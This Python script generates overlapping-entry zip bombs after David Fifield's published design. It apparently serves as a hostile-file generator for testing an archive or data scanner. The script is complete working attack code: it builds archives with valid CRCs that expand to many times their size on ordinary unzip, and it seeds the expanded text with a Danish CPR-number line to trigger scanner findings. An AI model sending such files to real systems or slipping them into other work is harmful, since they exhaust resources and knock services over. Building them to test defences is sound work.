#!/usr/bin/env python3
"""Writes non-recursive ("overlapping-entry") zip bombs the way David Fifield's "A better zip
bomb" (WOOT 2019, https://www.bamsoftware.com/hacks/zipbomb/) builds them. Hostile-file
generator for the tests: Python's zipfile cannot write entries that share data, so the bytes
are laid out by hand with struct and zlib.

  overlap_zip.py quoted OUT.zip [--files N] [--kernel-mib M]
  overlap_zip.py full OUT.zip [--files N] [--kernel-mib M]

* quoted: every entry's compressed data begins with a stored (non-compressed) DEFLATE block
  that quotes the next entry's local file header, then runs on through that entry's data,
  down to one shared kernel (a highly compressed text) at the end. Each entry inflates to
  every later header plus the kernel: N entries expand to about N times the kernel.
* full: N central-directory entries all point at one local file header and its kernel.

Every CRC-32 and size is correct, so an ordinary unzip really does expand the whole thing.
The kernel repeats a line holding a valid CPR number (150372-1003), so a scanner that
expanded the members would report findings.
"""
import argparse
import struct
import zlib

KERNEL_LINE = b"Journal: cpr-nr. 150372-1003, intet andet at se her.\n"
NAME_ALPHABET = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
DOS_TIME, DOS_DATE = 0x6000, 0x5A21  # 2025-01-01 12:00


def names(count):
    """Short distinct names of equal length, as Fifield uses (fewer header bytes per entry)."""
    width = 1
    while len(NAME_ALPHABET) ** width < count:
        width += 1
    out = []
    for i in range(count):
        name, n = b"", i
        for _ in range(width):
            name = bytes([NAME_ALPHABET[n % len(NAME_ALPHABET)]]) + name
            n //= len(NAME_ALPHABET)
        out.append(name)
    return out


def kernel(size):
    text = (KERNEL_LINE * (size // len(KERNEL_LINE) + 1))[:size]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw DEFLATE, ends with a final block
    return text, packer.compress(text) + packer.flush()


def crc_after(data):
    """The CRC-32 of (prefix + data) as a function of crc(prefix), without rereading data.

    zlib's crc32(data, start) is affine in start over GF(2), so it is fixed by its value at
    0 and at the 32 unit vectors: 33 passes over the kernel instead of one per entry.
    """
    base = zlib.crc32(data, 0)
    unit = [zlib.crc32(data, 1 << bit) ^ base for bit in range(32)]

    def crc(prefix_crc):
        out = base
        for bit in range(32):
            if prefix_crc >> bit & 1:
                out ^= unit[bit]
        return out

    return crc


def local_header(name, crc, csize, usize):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, DOS_TIME, DOS_DATE, crc, csize, usize, len(name), 0) + name


def central_header(name, crc, csize, usize, offset):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, DOS_TIME, DOS_DATE, crc, csize, usize,
                       len(name), 0, 0, 0, 0, 0, offset) + name


def end_record(count, cd_size, cd_offset):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, 0)


def stored_block_header(length):
    """A non-final stored DEFLATE block of `length` bytes (BFINAL=0, BTYPE=00, LEN, NLEN)."""
    return struct.pack("<BHH", 0x00, length, length ^ 0xFFFF)


def quoted_overlap(count, kernel_size):
    text, packed = kernel(kernel_size)
    kernel_crc = crc_after(text)
    entry_names = names(count)
    headers = [b""] * count
    later = b""  # the local headers after the current entry, as its data quotes them
    quoted_len = 0  # their compressed length: each with its stored-block header
    for i in range(count - 1, -1, -1):
        crc = kernel_crc(zlib.crc32(later))
        headers[i] = local_header(entry_names[i], crc, quoted_len + len(packed), len(later) + len(text))
        later = headers[i] + later
        quoted_len += len(stored_block_header(0)) + len(headers[i])
    body, directory = bytearray(), bytearray()
    for i, header in enumerate(headers):
        _, _, _, _, _, _, crc, csize, usize, _, _ = struct.unpack("<IHHHHHIIIHH", header[:30])
        directory += central_header(entry_names[i], crc, csize, usize, len(body))
        body += header
        body += stored_block_header(len(headers[i + 1])) if i + 1 < count else packed
    return bytes(body) + bytes(directory) + end_record(count, len(directory), len(body))


def full_overlap(count, kernel_size):
    text, packed = kernel(kernel_size)
    crc = zlib.crc32(text)
    entry_names = names(count)
    body = local_header(entry_names[0], crc, len(packed), len(text)) + packed
    directory = b"".join(central_header(n, crc, len(packed), len(text), 0) for n in entry_names)
    return body + directory + end_record(count, len(directory), len(body))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=["quoted", "full"])
    parser.add_argument("out")
    parser.add_argument("--files", type=int, default=2000)
    parser.add_argument("--kernel-mib", type=float, default=1)
    args = parser.parse_args()
    if not 1 <= args.files <= 65534:
        parser.error("--files: 1 to 65534 (no zip64 here)")
    make = quoted_overlap if args.kind == "quoted" else full_overlap
    with open(args.out, "wb") as f:
        f.write(make(args.files, int(args.kernel_mib * (1 << 20))))


if __name__ == "__main__":
    main()
